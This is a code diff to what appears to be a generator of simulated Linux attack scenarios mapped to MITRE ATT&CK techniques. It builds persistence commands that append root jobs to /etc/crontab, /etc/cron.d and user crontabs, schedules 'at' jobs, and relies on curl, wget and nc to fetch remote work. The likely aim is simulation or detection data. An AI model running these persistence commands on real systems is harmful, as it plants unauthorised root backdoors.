@@ -1,6 +1,6 @@
 import type { Attack } from '../scenario.ts';
 import { callOut, stayer } from './beacon.ts';
-import { fetchTo, link, maybe, root, workFolder, write } from './ways.ts';
+import { fetchTo, link, look, maybe, root, workFolder, write } from './ways.ts';
 
 /** A job of cron asks another machine for work. */
 const byCron: Attack = {
@@ -8,7 +8,7 @@ const byCron: Attack = {
   family: 'persistence-by-cron',
   techniques: ['T1053.003', 'T1105', 'T1059.004'],
   as: 'either',
-  needs: ['crontab', 'cron', 'curl', 'wget', 'python3', 'perl', 'nc'],
+  needs: ['crontab', 'cron', 'curl', 'wget', 'python3', 'perl', 'nc', 'sudo'],
   lines: (draw, place) => {
     const folder = workFolder(draw, place);
     const path = `${folder}/${draw.file('.sh')}`;
@@ -24,16 +24,17 @@ const byCron: Attack = {
         `rm /tmp/${name}`,
       ],
       [`echo "${when} root ${job}" | ${root(place, `tee /etc/cron.d/${name}`)} > /dev/null`],
-      [root(place, `bash -c 'echo "${when} root ${job}" >> /etc/crontab'`)],
+      [`echo "${when} root ${job}" | ${root(place, 'tee -a /etc/crontab')} > /dev/null`],
       [
         root(
           place,
           `install -m 755 /dev/stdin /etc/cron.${draw.pick(['hourly', 'daily'])}/${name} <<< "${job}"`,
         ),
       ],
-      [root(place, `bash -c 'echo "${when} ${job}" >> /var/spool/cron/crontabs/root'`)],
+      [`echo "${when} ${job}" | ${root(place, 'tee -a /var/spool/cron/crontabs/root')} > /dev/null`],
     ]);
     return [
+      ...look(draw, draw.int(2, 3)),
       ...maybe(draw, 0.4, 'crontab -l', 'ls -la /etc/cron.d'),
       ...(job === path
         ? [
@@ -57,7 +58,7 @@ const byAt: Attack = {
   family: 'persistence-by-at',
   techniques: ['T1053.002', 'T1105'],
   as: 'either',
-  needs: ['at', 'curl', 'wget', 'python3', 'perl', 'nc'],
+  needs: ['at', 'curl', 'wget', 'python3', 'perl', 'nc', 'sudo'],
   lines: (draw, place) => {
     const path = `${draw.pick(['/tmp', '/var/tmp', '/dev/shm'])}/${draw.file('.sh')}`;
     const when = draw.pick(['now', 'now + 1 minute', 'now + 2 hours', '03:14', 'midnight']);
@@ -84,7 +85,7 @@ const byUnit: Attack = {
   family: 'persistence-by-unit',
   techniques: ['T1543.002', 'T1036.005'],
   as: 'either',
-  needs: ['curl', 'nc', 'python3', 'wget', 'systemctl'],
+  needs: ['curl', 'nc', 'python3', 'wget', 'sudo'],
   lines: (draw, place) => {
     const mine = place.user !== 'root' && draw.chance(0.5);
     const units = mine
